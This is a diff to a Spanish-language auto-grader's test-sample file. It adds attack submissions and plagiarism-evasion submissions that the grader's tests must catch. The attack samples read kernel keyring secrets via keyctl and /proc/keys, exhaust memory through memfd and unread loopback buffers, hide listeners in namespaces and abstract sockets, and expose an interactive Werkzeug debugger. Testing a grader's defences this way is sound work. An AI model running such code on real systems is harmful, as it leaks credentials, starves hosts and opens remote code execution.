@@ -15,6 +15,7 @@ para que las pruebas comprueben que no quedó nada.
     python tests/calificador/muestras.py DESTINO --clase 30 # 30 entregas para medir la velocidad
 """
 import argparse
+import base64
 import functools
 import itertools
 import os
@@ -632,6 +633,157 @@ MUESTRAS += [
             extra=_A_SU_MANERA),
     Muestra('copia_renombrada', CORRECTA, 'la de escrita_a_su_manera con otros nombres y otros comentarios',
             extra={ruta: _renombrar(texto) for ruta, texto in _A_SU_MANERA.items()}),
+]
+# --- Issue 25 (la cuarta ronda): el núcleo, cualquier socket que escuche y la similitud --------------
+# El llavero de sesión del núcleo: lo que encuentra lo imprime y lo lleva a su error (así llegaría a su
+# retroalimentación), y deja llaves suyas. Las pruebas lo califican dentro de un llavero con un secreto.
+_LLAVERO = """
+import ctypes as _ctypes
+import subprocess as _subprocess
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_secretos, _hallado = [], []
+for _anillo in (-3, -4, -5, -1, -2):   # @s, @u, @us, @t, @p
+    _lista = _ctypes.create_string_buffer(4096)
+    _n = _libc.syscall(250, 11, _anillo, _lista, 4096)   # keyctl(KEYCTL_READ): las llaves del anillo
+    for _i in range(0, max(_n, 0), 4):
+        _dato = _ctypes.create_string_buffer(4096)
+        _m = _libc.syscall(250, 11, int.from_bytes(_lista.raw[_i:_i + 4], 'little'), _dato, 4096)
+        _secretos.append(_dato.raw[:max(_m, 0)].decode(errors='replace'))
+for _anillo in (-3, -4, -5):
+    _libc.syscall(248, b'user', b'ATAQUE_llave', b'ATAQUE', 6, _anillo)   # add_key: una llave suya
+_libc.syscall(249, b'user', b'secreto', None, -3)                       # request_key
+for _orden in (['keyctl', 'print', '%user:secreto'], ['keyctl', 'show', '@s'], ['cat', '/proc/keys']):
+    try:
+        _hallado.append(_subprocess.run(_orden, capture_output=True, text=True, timeout=5).stdout)
+    except Exception:
+        pass
+print('LLAVERO:', _hallado)
+raise RuntimeError(f'LLAVERO: {_secretos}')
+"""
+# 240 memfd de 8 MB (RLIMIT_FSIZE deja 8 MB por archivo y RLIMIT_NOFILE, 256 descriptores): 1,9 GB en un
+# proceso que no cuentan en RLIMIT_AS. Sin cgroups, solo los para el vigilante de memoria.
+_MEMFD = """
+import os as _os
+import time as _time
+
+_tenidos = []
+for _ in range(240):
+    try:
+        _fd = _os.memfd_create('ATAQUE_memfd')
+        _os.posix_fallocate(_fd, 0, 8 * 1024 ** 2)
+        _tenidos.append(_fd)
+    except OSError:
+        break
+_time.sleep(30)
+"""
+# Conexiones de loopback llenas que nadie lee: la memoria de sus búferes es del núcleo (fuera del cgroup v1).
+_BUFERES = """
+import os as _os
+import socket as _socket
+import time as _time
+
+for _ in range(3):
+    if _os.fork() == 0:
+        break
+_escucha = _socket.create_server(('127.0.0.1', 0))
+_abiertas = []
+for _ in range(100):
+    try:
+        _c = _socket.create_connection(_escucha.getsockname())
+        _abiertas += [_c, _escucha.accept()[0]]
+        _c.setblocking(False)
+        while True:
+            _c.send(b'x' * 65536)
+    except (BlockingIOError, OSError):
+        continue
+_time.sleep(20)
+"""
+# Al importar, un servidor en una red anidada (unshare) y otro en un socket Unix: no se veían.
+_RED_ANIDADA = """
+import ctypes as _ctypes
+import os as _os
+import socket as _socket
+import threading as _threading
+import time as _time
+
+# Solo al importar (como script, su TCP se adelantaría a app.run y el calificador leería la salida antes).
+if __name__ != '__main__' and _os.fork() == 0:
+    _ctypes.CDLL(None).unshare(0x10000000 | 0x40000000)   # CLONE_NEWUSER | CLONE_NEWNET
+    try:
+        _escondido = _socket.create_server(('127.0.0.1', 9697))
+    except OSError:
+        pass
+    _time.sleep(600)
+_unix = _socket.socket(_socket.AF_UNIX)
+_unix.bind('\\0servidor-anidado')   # abstracto: cada red tiene los suyos
+_unix.listen()
+"""
+_UNIX_ABSTRACTO = """
+import socket as _socket
+
+_unix = _socket.socket(_socket.AF_UNIX)
+_unix.bind('\\0servidor-abandono')
+_unix.listen()
+"""
+_UDP_SEIS = """
+import socket as _socket
+
+_udp = _socket.socket(_socket.AF_INET6, _socket.SOCK_DGRAM)
+_udp.bind(('::1', 9696))
+"""
+# Una app limpia en el 5000 y el depurador (escondido del AST) en el 9696.
+_DEPURADOR_EN_OTRO = """import threading as _threading
+    import werkzeug.debug as _depuracion
+    from werkzeug.serving import run_simple as _servir
+    _con_depurador = getattr(_depuracion, 'Debugged' + 'Application')(app, evalex=True)
+    _threading.Thread(target=_servir, args=('0.0.0.0', 9696, _con_depurador), daemon=True).start()
+    app.run(debug=False, host='0.0.0.0', port=5000)"""
+_PLANTADO = '# me pasó su solución por correo y le pagué 20 euros'
+_MODULO_DE_AYUDA = 'ayuda_modelo.py'
+# 50 000 comentarios distintos y cortos (caben en los 256 KB que leía la similitud) dentro del código copiado.
+_LETRAS = 'abcdefghijklmnopqrstuvwxyz0123456789ABCD'
+_CINCUENTA_MIL = ''.join(f'#{_LETRAS[i // 1600]}{_LETRAS[i // 40 % 40]}{_LETRAS[i % 40]}\n' for i in range(50_000))
+MUESTRAS += [
+    Muestra('lee_el_llavero', ATAQUE, 'lee las llaves del llavero de sesión del núcleo (keyctl, keyctl print, '
+            '/proc/keys), lleva lo que halla a su error y deja llaves suyas', _al_importar(_LLAVERO),
+            base='exercises', categoria='fugas / restos'),
+    Muestra('memfd_de_2_gb', ATAQUE, '240 memfd de 8 MB en un proceso: 1,9 GB fuera de RLIMIT_AS',
+            _al_importar(_MEMFD), base='exercises', categoria='toda la clase'),
+    Muestra('buferes_de_loopback', ATAQUE, '400 conexiones de loopback llenas que nadie lee, en cuatro procesos',
+            _al_importar(_BUFERES), base='exercises', categoria='toda la clase'),
+    Muestra('servidor_en_red_anidada', ATAQUE, 'al importar, un servidor en una red anidada (unshare) y otro en '
+            'un socket Unix', _al_importar(_RED_ANIDADA), {3: 5}, categoria='puntos sin trabajo',
+            pista='arranca un servidor'),
+    Muestra('servidor_unix_abstracto', ATAQUE, 'al importar, un socket Unix abstracto que acepta conexiones',
+            _al_importar(_UNIX_ABSTRACTO), {3: 5}, categoria='puntos sin trabajo', pista='socket Unix'),
+    Muestra('servidor_udp_en_ipv6', ATAQUE, 'al importar, un socket UDP en ::1, puerto 9696',
+            _al_importar(_UDP_SEIS), {3: 5}, categoria='puntos sin trabajo', pista='UDP'),
+    Muestra('depurador_en_otro_puerto', ATAQUE, 'una app limpia en el 5000 y el depurador en el 9696',
+            {S: [("    app.run(debug=False, host='0.0.0.0', port=9696)\n    # END",
+                  '    ' + _DEPURADOR_EN_OTRO + '\n    # END')]}, {3: 5}, categoria='puntos sin trabajo',
+            pista='puerto 9696'),
+    Muestra('depurador_menos_en_la_caja', ATAQUE, "debug=socket.gethostname() != 'caja': encendido en todas "
+            'partes menos en la caja de antes',
+            {S: [('import pickle\n', 'import pickle\nimport socket\n'),
+                 ('app.run(debug=False,', "app.run(debug=socket.gethostname() != 'caja',")]},
+            {3: 5}, categoria='puntos sin trabajo', pista='depurador activado'),
+    Muestra('debug_del_entorno', CORRECTA, "app.run(debug=os.environ.get('FLASK_DEBUG') == '1'): legítimo, "
+            'solo para revisar', {S: [('import pickle\n', 'import os\nimport pickle\n'),
+                                      ('app.run(debug=False,', "app.run(debug=os.environ.get('FLASK_DEBUG') == '1',")]}),
+    # Copias de escrita_a_su_manera que antes eran 0 % parecidas, o que acusaban a quien no escribió algo.
+    # Las dos copias pierden el punto del nombre de la app: lo busca en el AST de servicio1.py, donde ya no está.
+    Muestra('copia_en_modulos', CORRECTA, 'la de escrita_a_su_manera en un módulo de ayuda que servicio1.py importa',
+            esperado={3: 5}, extra={S: 'from ayuda_modelo import *  # noqa: F403\n\n'
+                      "if __name__ == '__main__':\n    principal()  # noqa: F405\n",
+                   _MODULO_DE_AYUDA: _A_SU_MANERA[S].replace("\nif __name__ == '__main__':\n    principal()\n", '')}),
+    Muestra('copia_en_base64', CORRECTA, 'la de escrita_a_su_manera pasada por base64 y exec', esperado={3: 5},
+            extra={S: 'import base64\n\nexec(base64.b64decode(%r))\n'
+                      % base64.b64encode(_A_SU_MANERA[S].encode()).decode()}),
+    Muestra('acusacion_plantada', CORRECTA, 'la de escrita_a_su_manera con un comentario que acusa a su autora',
+            extra={S: _A_SU_MANERA[S].replace('import flask\n', 'import flask\n' + _PLANTADO + '\n')}),
+    Muestra('cincuenta_mil_comentarios', CORRECTA, 'la solución con 50 000 comentarios distintos en predict_cliente',
+            {S: [('    X = dv.transform([cliente])\n', '    X = dv.transform([cliente])\n' + _CINCUENTA_MIL)]}),
 ]
 ATAQUES = [m for m in MUESTRAS if m.tipo == ATAQUE]
 
